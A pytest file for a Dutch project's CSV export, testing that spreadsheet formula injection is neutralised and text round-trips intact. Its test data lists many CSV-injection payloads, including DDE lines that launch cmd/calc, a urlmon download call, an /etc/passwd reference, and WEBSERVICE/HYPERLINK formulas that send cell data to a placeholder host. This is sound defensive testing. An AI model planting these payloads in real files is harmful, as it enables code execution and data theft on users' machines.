"""CSV for a spreadsheet: no text is taken for a formula, and every text comes back as it was."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from zorgarrangeur_tui.reports.csv_text import csv_bytes, guarded, rows_of, unguarded

_NAUGHTY = Path(__file__).parents[4] / "shared" / "data" / "hostile_text" / "blns.json"
_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_SKIPPED = " \N{NO-BREAK SPACE}\N{ZERO WIDTH SPACE}\N{ZERO WIDTH NO-BREAK SPACE}\N{WORD JOINER}\N{SOFT HYPHEN}\v\f\x00"

FORMULAS = (
    "=1+1",
    "=SUM(A1:A9)",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://voorbeeld.test?x="&A1;"klik")',
    '=WEBSERVICE("https://voorbeeld.test/"&A1)',
    '=IMPORTXML(CONCAT("https://voorbeeld.test/";A1);"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=IFERROR(1/0;"x")',
    '=INDIRECT("A1")',
    "=A1",
    "={1;2}",
    "==1",
    "=-1",
    "=+1",
    "=@SUM(1)",
    "='file:///etc/passwd'#$passwd.A1",
    '=FILTERXML("<a/>";"//a")',
    '=CALL("urlmon";"URLDownloadToFileA";"JJCCJJ";0;"x")',
    '=REGISTER("kernel32")',
    '=EXEC("calc.exe")',
    "+1+1",
    "+cmd|'/C calc'!A0",
    "+31 6 12345678",
    "+A1",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "-A1",
    "- punt een",
    "@SUM(1+1)",
    "@A1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\N{MINUS SIGN}1+1",
    "\N{SMALL EQUALS SIGN}1+1",
    "'=1+1",
)


def evaluates(cell: str) -> bool:
    """Tell whether some spreadsheet might take a cell for a formula, by its first sign that is seen."""
    return cell[:1] in {"\t", "\r", "\n"} or cell.lstrip(_SKIPPED).startswith(_SIGNS)


def cells_in(data: bytes) -> list[list[str]]:
    """Return the cells as a spreadsheet reads them, with guards."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_formula_evaluates_and_each_reads_back(formula: str) -> None:
    """Forty and more ways to begin a formula: an apostrophe makes it text, and nothing else changes."""
    data = csv_bytes(("Naam", "Notitie"), [("a", formula)])
    ((_, _), (_, cell)) = cells_in(data)
    assert cell == f"'{formula}"
    assert not evaluates(cell)
    assert rows_of(data) == [["Naam", "Notitie"], ["a", formula]]


@pytest.mark.skipif(not _NAUGHTY.exists(), reason="the collection of hostile texts is not on this computer")
def test_no_naughty_string_evaluates_and_each_reads_back() -> None:
    """A public collection of strings that break programs."""
    texts = json.loads(_NAUGHTY.read_text())
    data = csv_bytes(("Tekst",), [(text,) for text in texts])
    assert not [cell for row in cells_in(data) for cell in row if evaluates(cell)]
    assert rows_of(data)[1:] == [[text] for text in texts]


_anything = st.text() | st.builds(
    "{}{}{}".format, st.text(" \t\r\n'\"\N{ZERO WIDTH SPACE}\N{NO-BREAK SPACE}"), st.sampled_from(_SIGNS), st.text()
)


@given(st.lists(st.lists(_anything, min_size=2, max_size=2), max_size=4))
def test_any_text_is_no_formula_and_reads_back(rows: list[list[str]]) -> None:
    """Whatever is in a record: one row stays one row, no cell evaluates, and the text is there in full."""
    data = csv_bytes(("Een", "Twee"), rows)
    assert not [cell for row in cells_in(data) for cell in row if evaluates(cell)]
    assert rows_of(data) == [["Een", "Twee"], *rows]


@given(_anything)
def test_a_guard_is_taken_off_only_where_it_was_put(text: str) -> None:
    """Also a text that begins with an apostrophe of its own, such as 's-Hertogenbosch, stays itself."""
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize(
    "text", ["Zoë", "'s-Hertogenbosch", "9:15-10:00", "a=b", "Z-7F3A2C", "", "ja; en nee", "1-9-2026"]
)
def test_ordinary_text_gets_no_guard(text: str) -> None:
    """What no spreadsheet evaluates is left alone."""
    assert guarded(text) == text


def test_the_file_is_what_excel_in_the_netherlands_expects() -> None:
    """UTF-8 with a mark, semicolons, CRLF; our own numbers are numbers, digits in a text stay text; nothing is empty."""
    data = csv_bytes(("Naam", "Minuten", "Code"), [("Zoë", -90, "0012"), (None, 0, 'zij zei "ja"')])
    assert data == '\ufeff"Naam";"Minuten";"Code"\r\n"Zoë";-90;"0012"\r\n"";0;"zij zei ""ja"""\r\n'.encode()
